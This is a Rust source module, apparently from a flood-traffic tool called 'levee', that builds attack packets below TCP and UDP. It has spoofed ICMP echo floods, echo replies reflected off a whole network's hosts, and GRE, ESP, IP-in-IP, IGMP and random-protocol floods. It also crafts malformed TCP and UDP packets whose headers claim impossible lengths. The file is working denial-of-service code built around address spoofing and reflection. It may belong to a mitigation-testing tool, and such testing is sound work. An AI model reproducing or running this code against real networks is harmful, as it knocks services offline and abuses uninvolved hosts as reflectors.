//! Floods below TCP and UDP.

use levee_api::vector::Vector;
use rand::RngExt;

use super::Attack;
use crate::{
    amplification::random,
    frame::{self, Tcp, flags},
};

/// Protocols that tools without a better idea draw from: neither those of vectors of their own nor extension headers.
const UNUSUAL: [std::ops::RangeInclusive<u8>; 2] = [61..=131, 141..=252];

impl Attack {
    pub(super) fn echo_request(&mut self, frame: &mut Vec<u8>) {
        let ip = self.spoofed();
        let kind = if ip.source.is_ipv4() { 8 } else { 128 };
        let [high, low]: [u8; 2] = self.rng.random();
        let sequence = self.rng.random_range(0..64);
        frame::icmp(frame, self.aim.link, ip, kind, 0, [high, low, 0, sequence], &self.tool.payload);
    }

    /// All hosts of a network answer the same request.
    pub(super) fn echo_reply(&mut self, frame: &mut Vec<u8>) {
        let ip = self.reflector_ip();
        let [high, low, ..] = self.tool.window.to_be_bytes();
        let sequence = self.rng.random_range(0..8);
        frame::icmp(frame, self.aim.link, ip, 0, 0, [high, low, 0, sequence], &self.tool.payload);
    }

    pub(super) fn protocol(&mut self, frame: &mut Vec<u8>, vector: Vector) {
        let ip = self.spoofed();
        self.payload.clear();
        let (number, length) = match vector {
            Vector::GreFlood => {
                // No checksum, key or sequence number; IPv4 inside (RFC 2784).
                self.payload.extend([0, 0, 8, 0]);
                (47, 512)
            }
            Vector::EspFlood => (50, 200),
            Vector::IpipFlood if ip.source.is_ipv4() => {
                self.payload.extend([0x45, 0, 0, 100, 0, 0, 0, 0, 64, 17]);
                (4, 90)
            }
            Vector::IpipFlood => {
                self.payload.extend([0x60, 0, 0, 0, 0, 60, 17, 64]);
                (41, 92)
            }
            Vector::IgmpFlood => {
                // A membership report (RFC 2236).
                self.payload.extend([0x16, 0]);
                (2, 6)
            }
            _ => {
                let range = UNUSUAL[self.rng.random_range(0..UNUSUAL.len())].clone();
                (self.rng.random_range(range), 64)
            }
        };
        random(&mut self.payload, length, &mut self.rng);
        frame::other(frame, self.aim.link, ip, number, &self.payload);
    }

    /// What no stack sends: more header than segment, or a datagram shorter than its header.
    pub(super) fn malformed(&mut self, frame: &mut Vec<u8>) {
        let ip = self.spoofed();
        let (source, destination) = self.random_ports();
        // Where the header says how long it, or the datagram, is.
        let (at, byte) = if self.rng.random() {
            let segment = Tcp { source, destination, flags: flags::SYN, ..Tcp::default() };
            frame::tcp(frame, self.aim.link, ip, segment, &[]);
            // Data offset 15: 60 bytes where there are 20 (RFC 9293 section 3.1).
            (12, 0xf0)
        } else {
            frame::udp(frame, self.aim.link, ip, (source, destination), &self.tool.payload[..32]);
            // Less than the 8 bytes of the header (RFC 768); there are 40.
            (5, 4)
        };
        let at = frame::transport(frame) + at;
        if let Some(field) = frame.get_mut(at) {
            *field = byte;
        }
    }
}
